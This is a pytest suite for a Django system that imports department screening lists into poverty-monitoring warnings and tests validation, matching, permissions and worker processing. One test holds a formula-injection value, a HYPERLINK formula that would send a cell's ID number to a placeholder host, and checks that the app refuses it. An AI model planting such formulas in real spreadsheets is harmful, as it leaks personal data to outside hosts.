"""Department screening warnings (SPEC §6): the quarterly upload with every bad row named and nothing half saved,
matching by ID number, de-duplication, the unmatched report, verification with the disposition classes of §6.6,
the department's own view, the quarterly reminder, and the 漏统 rule of repeated warnings (§6.7).

The upload only stores the list; the worker reads it (README, "Heavy parsing runs in the worker"). The tests upload
as the page does, then run the one task the upload sent, as the worker would."""

import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from accounts.roles import Role
from core.errors import DomainError, TransitionNotAllowed
from households.choices import VisitKind
from households.imports.columns import FORMULA_REFUSED
from households.models import Visit
from monitoring.choices import EntryState
from notifications.models import Notification
from sweeps.choices import BatchStatus, MatchKind, WarningStatus
from sweeps.models import ScreeningBatch, ScreeningWarning
from sweeps.services import screening_reminders, screening_upload, warning_close, warning_dispose
from sweeps.tasks import screening_batch_task
from tests.factories import CountyFactory, HouseholdFactory, UserFactory, VillageFactory, valid_id_number
from tests.worlds.sweeps import HEADER, TODAY, World, assert_rule, xlsx

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _today(today):
    today.set(TODAY)


@pytest.fixture
def world():
    world = World()
    world.screener = UserFactory(roles=[Role.DEPARTMENT_SCREENER], area=world.county, department="health")
    world.sick = world.family(per_capita=Decimal("5000"))
    world.sick_member = world.sick.members.first()
    return world


@pytest.fixture
def upload(world, django_capture_on_commit_callbacks):
    """Upload as the page does, then run the one task the upload sent, as the worker would."""

    def run(rows, period="2026-Q3", header=HEADER):
        with django_capture_on_commit_callbacks() as callbacks:
            batch = screening_upload(actor=world.screener, period=period, upload=xlsx(rows, header))
        assert len(callbacks) == 1
        screening_batch_task(batch.pk)
        batch.refresh_from_db()
        return batch

    return run


def _errors(batch):
    return [f"第 {e['row']} 行“{e['column']}”：{e['message']}" for e in batch.errors]


def test_a_list_becomes_warnings_for_the_village_with_an_unmatched_report(world, upload):
    # given: the same person twice, one person not in the registry, one in another county
    stranger = valid_id_number(datetime.date(1975, 3, 1))
    elsewhere = HouseholdFactory(managing_area=VillageFactory(parent__parent=CountyFactory()))
    number, name = world.sick_member.id_number, world.sick_member.name
    rows = [
        [number, name, "", "确诊大病重病", datetime.date(2026, 8, 3), 12000, "县医院确诊", "WJ-01"],
        [number.lower(), name, "", "serious_illness", "2026-09-01", "3000.50", "", "WJ-02"],
        [stranger, "马某", "640324100201", "确诊大病重病", None, None, "", ""],
        [elsewhere.members.first().id_number, "李某", "", "chronic_disease", None, None, "", ""],
    ]  # fmt: skip

    # when
    batch = upload(rows)

    # then
    assert batch.status == BatchStatus.DONE
    assert (batch.row_count, batch.warning_count, batch.duplicate_count) == (4, 1, 1)
    warning = ScreeningWarning.objects.get()
    assert (warning.member, warning.household, warning.occurrences) == (world.sick_member, world.sick, 2)
    assert (warning.match_kind, warning.risk_type, warning.amount) == (
        MatchKind.CANDIDATE,
        "illness",
        Decimal("15000.50"),
    )
    assert warning.status == WarningStatus.ASSIGNED
    assert warning.feedback_due_on == TODAY + datetime.timedelta(days=15)  # warning.feedback_days
    reasons = {row["row"]: row["reason"] for row in batch.unmatched}
    assert reasons == {4: "不在防返贫监测农户档案中", 5: "该户不在本部门筛查范围内"}
    assert batch.unmatched[0]["id_number"].count("*") == 10  # masked
    assert Notification.objects.filter(recipient=world.village_worker, topic="warning").exists()
    assert Notification.objects.filter(recipient=world.township_cadre, topic="warning").exists()


def test_a_reupload_of_the_same_quarter_adds_nothing(world, upload):
    rows = [[world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""]]
    first = upload(rows)

    again = upload(rows)

    assert (again.warning_count, again.duplicate_count) == (0, 1)
    assert ScreeningWarning.objects.count() == 1
    # and the same task delivered again (a worker died after the import) changes nothing
    assert screening_batch_task(first.pk) == BatchStatus.DONE
    assert ScreeningWarning.objects.count() == 1


def test_bad_rows_and_wrong_columns_are_named_and_nothing_is_saved(world, upload):
    bad_check = world.sick_member.id_number[:-1] + ("0" if world.sick_member.id_number[-1] != "0" else "1")
    rows = [
        [world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""],
        [bad_check, "", "", "确诊大病重病", None, None, "", ""],
        [world.sick_member.id_number, "", "", "住房不安全", None, None, "", ""],
        [world.sick_member.id_number, "", "", "确诊大病重病", "2026-13-40", "一千", "", ""],
    ]
    rejected = upload(rows)

    assert rejected.status == BatchStatus.REJECTED
    assert _errors(rejected) == [
        "第 3 行“身份证号”：身份证号校验位错误，请核对号码",
        "第 4 行“预警类型”：“住房不安全”不是本部门的预警类型",
        "第 5 行“发生日期”：日期格式应为 2026-03-15",
        "第 5 行“金额（元）”：金额应为数字",
    ]
    assert rejected.error_count == 4
    assert "未导入任何数据" in rejected.message
    columns = upload([[world.sick_member.id_number, "x"]], header=["姓名", "详情"])
    assert columns.status == BatchStatus.REJECTED
    assert {error["column"] for error in columns.errors} == {"身份证号", "预警类型"}
    # a rejected list creates nothing: no warning (the valid first row included), no counts, no notification
    assert not ScreeningWarning.objects.exists()
    assert not Notification.objects.filter(topic="warning").exists()
    assert list(ScreeningBatch.objects.values_list("warning_count", "row_count", "unmatched")) == [(0, 0, [])] * 2


def test_a_formula_in_a_screening_list_is_refused_naming_row_and_column(world, upload):
    rows = [[world.sick_member.id_number, "", "", "确诊大病重病", None, None, '=HYPERLINK("http://x/?"&A2)', ""]]
    rejected = upload(rows)
    assert _errors(rejected) == [f"第 2 行“{HEADER[6]}”：{FORMULA_REFUSED}"]
    assert not ScreeningWarning.objects.exists()


def test_a_list_that_cannot_be_read_is_rejected_with_a_message(world, settings, upload):
    settings.XLSX_MAX_ROWS = 3  # the worker's budgets still hold
    rows = [[world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""]] * 5
    rejected = upload(rows)
    assert rejected.status == BatchStatus.REJECTED
    assert "超过 3 行" in rejected.message
    assert not ScreeningWarning.objects.exists()


def test_only_department_staff_upload_and_a_period_must_be_a_quarter(world):
    rows = [[world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""]]
    with pytest.raises(PermissionDenied):
        screening_upload(actor=world.village_worker, period="2026-Q3", upload=xlsx(rows))
    with pytest.raises(DomainError, match="格式不正确"):
        screening_upload(actor=world.screener, period="2026-7", upload=xlsx(rows))
    with pytest.raises(DomainError, match="尚未开始"):
        screening_upload(actor=world.screener, period="2027-Q3", upload=xlsx(rows))
    assert not ScreeningBatch.objects.exists()


def _visit(world, household):
    Visit.objects.create(
        household=household, visited_on=TODAY, kind=VisitKind.VERIFICATION, recorded_by=world.village_worker
    )


def test_verifying_after_a_visit_can_start_the_entry_procedure(world, upload):
    upload([[world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""]])
    warning = ScreeningWarning.objects.get()

    with pytest.raises(DomainError, match="请先登记一次入户核实走访"):
        warning_dispose(warning=warning, actor=world.village_worker, disposition="start_entry", note="属实")
    _visit(world, world.sick)
    warning_dispose(
        warning=warning,
        actor=world.village_worker,
        disposition="start_entry",
        note="户主确诊肺癌，自付费用高",
        category="marginal_at_risk",
        triggers=["MA-1"],
    )

    warning.refresh_from_db()
    assert warning.status == WarningStatus.CLOSED
    application = warning.entry_application
    assert (application.channel, application.state, application.triggers) == (
        "department_warning",
        EntryState.REPORTED,
        ["MA-1"],
    )
    assert application.risk_types == ["illness"]
    with pytest.raises(TransitionNotAllowed):
        warning_dispose(warning=warning, actor=world.village_worker, disposition="no_risk", note="再核实")


def test_a_referral_waits_for_its_follow_up(world, upload):
    upload([[world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""]])
    warning = ScreeningWarning.objects.get()
    _visit(world, world.sick)

    warning_dispose(
        warning=warning, actor=world.township_cadre, disposition="refer_to_department", note="建议民政纳入低保"
    )
    warning.refresh_from_db()
    assert warning.status == WarningStatus.VERIFIED
    warning_close(warning=warning, actor=world.township_cadre, note="民政已纳入低保")

    warning.refresh_from_db()
    assert warning.status == WarningStatus.CLOSED
    assert "民政已纳入低保" in warning.disposition_note


def test_the_department_sees_its_own_warnings_but_not_the_household(client, world, upload):
    upload([[world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""]])
    civil = UserFactory(roles=[Role.DEPARTMENT_SCREENER], area=world.county, department="civil_affairs")
    warning = ScreeningWarning.objects.get()

    assert list(ScreeningWarning.objects.visible_to(world.screener)) == [warning]
    assert not ScreeningWarning.objects.visible_to(civil).exists()
    with pytest.raises(PermissionDenied):
        warning_dispose(warning=warning, actor=world.screener, disposition="no_risk", note="x")
    client.force_login(world.screener)
    page = client.get(warning.get_absolute_url())
    assert page.status_code == 200
    assert world.sick.get_absolute_url() not in page.content.decode()
    assert client.get(world.sick.get_absolute_url()).status_code == 404


def test_the_upload_answers_at_once_and_the_page_polls_until_the_worker_is_done(
    client, world, monkeypatch, django_capture_on_commit_callbacks
):
    # given: nothing in the request may open the workbook
    def never(*args, **kwargs):
        raise AssertionError("the list was parsed in the request")

    client.force_login(world.screener)
    rows = [[world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""]]

    # when
    with django_capture_on_commit_callbacks() as callbacks, monkeypatch.context() as patched:
        patched.setattr(openpyxl, "load_workbook", never)
        patched.setattr("sweeps.services.screening.read_screening", never)
        response = client.post(reverse("sweeps:batch-upload"), {"period": "2026-Q3", "file": xlsx(rows)})

    # then: the batch is stored, queued, and its page polls
    batch = ScreeningBatch.objects.get()
    assert response.status_code == 302
    assert response["Location"] == batch.get_absolute_url()
    assert (batch.status, batch.uploaded_by, batch.original_name) == (
        BatchStatus.QUEUED,
        world.screener,
        "卫健筛查.xlsx",
    )
    assert len(callbacks) == 1
    page = client.get(batch.get_absolute_url()).content.decode()
    assert "正在排队等候后台导入" in page
    poll = client.get(batch.get_absolute_url(), HTTP_HX_REQUEST="true")
    assert 'hx-trigger="every 1s"' in poll.content.decode()
    assert "HX-Refresh" not in poll

    # the worker imports it; the next poll reloads the page into the result
    screening_batch_task(batch.pk)
    poll = client.get(batch.get_absolute_url(), HTTP_HX_REQUEST="true")
    assert poll["HX-Refresh"] == "true"
    page = client.get(batch.get_absolute_url()).content.decode()
    assert 'data-testid="batch-counts"' in page
    assert "已导入" in page
    assert ScreeningWarning.objects.count() == 1


def test_the_batch_page_shows_the_error_table(client, world, django_capture_on_commit_callbacks):
    client.force_login(world.screener)
    bad = xlsx([["123", "", "", "确诊大病重病", None, None, "", ""]])

    with django_capture_on_commit_callbacks():
        client.post(reverse("sweeps:batch-upload"), {"period": "2026-Q3", "file": bad})
    batch = ScreeningBatch.objects.get()
    screening_batch_task(batch.pk)

    page = client.get(batch.get_absolute_url()).content.decode()
    assert "有错误，未导入" in page
    assert "第 2 行" in page
    assert "身份证号应为 18 位" in page
    assert "错误清单（共 1 处）" in page
    assert 'data-testid="batch-warnings"' not in page


def test_the_upload_page_refuses_a_file_that_is_no_workbook_before_storing_it(client, world):
    client.force_login(world.screener)
    fake = SimpleUploadedFile("卫健筛查.xlsx", b"not a workbook at all")

    page = client.post(reverse("sweeps:batch-upload"), {"period": "2026-Q3", "file": fake})

    assert page.status_code == 200
    assert "文件内容不是 .xlsx 工作簿" in page.content.decode()
    assert not ScreeningBatch.objects.exists()


def test_a_screener_moved_to_another_county_before_the_worker_runs_imports_nothing_of_the_old_one(
    client, world, django_capture_on_commit_callbacks
):
    # given: a list uploaded for the county, and the screener moved to another county before the worker runs
    rows = [[world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""]]
    with django_capture_on_commit_callbacks():
        batch = screening_upload(actor=world.screener, period="2026-Q3", upload=xlsx(rows))
    world.screener.area = CountyFactory()
    world.screener.save()

    # when
    screening_batch_task(batch.pk)

    # then: nothing of the old county is matched, warned, listed or shown to them
    batch.refresh_from_db()
    assert batch.status == BatchStatus.FAILED
    assert f"上传人已不负责{world.county.name}" in batch.message
    assert (batch.warning_count, batch.unmatched, batch.row_count) == (0, [], 0)
    assert not ScreeningWarning.objects.exists()
    assert not Notification.objects.filter(topic="warning").exists()
    client.force_login(world.screener)
    assert client.get(batch.get_absolute_url()).status_code == 404
    assert world.county.name not in client.get(reverse("sweeps:batch-list")).content.decode()


def test_the_template_lists_the_departments_event_types(client, world, upload):
    client.force_login(world.screener)

    response = client.get(reverse("sweeps:screening-template"))

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert next(workbook["筛查名单"].iter_rows(values_only=True))[0] == "身份证号*"
    codes = [row[0] for row in workbook["预警类型"].iter_rows(min_row=2, values_only=True)]
    assert codes == ["serious_illness", "disease_37", "chronic_disease"]
    example = next(workbook["筛查名单"].iter_rows(min_row=2, values_only=True))
    assert isinstance(example[0], str)  # an ID number kept as text
    assert upload([list(example)]).unmatched  # the example row reads cleanly (its person is unknown)


def test_the_quarterly_reminder_on_its_due_day(world, upload):
    due_day = datetime.date(2026, 10, 15)  # Q3 ends 30 September; warning.upload_due_days = 15
    assert screening_reminders(today=due_day) == 1
    assert screening_reminders(today=due_day - datetime.timedelta(days=1)) == 0
    upload([["123", "", "", "确诊大病重病", None, None, "", ""]])  # rejected: not an upload
    assert screening_reminders(today=due_day) == 1
    upload([[world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""]])
    assert screening_reminders(today=due_day) == 0  # Q3 uploaded


def test_reg_07_a_household_warned_twice_is_a_missed_registration(world, upload):
    upload([[world.sick_member.id_number, "", "", "确诊大病重病", None, None, "", ""]] * 2)  # ×2
    once = world.family(per_capita=Decimal("9000"))
    upload([[once.members.first().id_number, "", "", "确诊大病重病", None, None, "", ""]], period="2026-Q2")
    assert_rule(world, "FC-GAP-MISSED-REG-07", trips=[world.sick], passes=[once])
